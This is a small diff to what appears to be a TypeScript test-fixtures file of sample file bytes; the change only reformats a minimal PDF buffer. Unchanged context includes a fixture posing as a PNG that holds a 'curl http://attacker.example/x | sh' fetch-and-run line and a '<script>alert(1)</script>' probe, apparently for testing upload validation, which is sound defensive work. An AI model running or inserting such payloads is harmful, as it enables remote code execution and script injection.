@@ -17,7 +17,9 @@ export const jpegBytes = Buffer.concat([
 ]);
 
 /** A minimal PDF. */
-export const pdfBytes = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
+export const pdfBytes = Buffer.from(
+  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
+);
 
 /** Named and declared as a PNG; it is a script. */
 export const scriptAsPng = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n<script>alert(1)</script>\n');
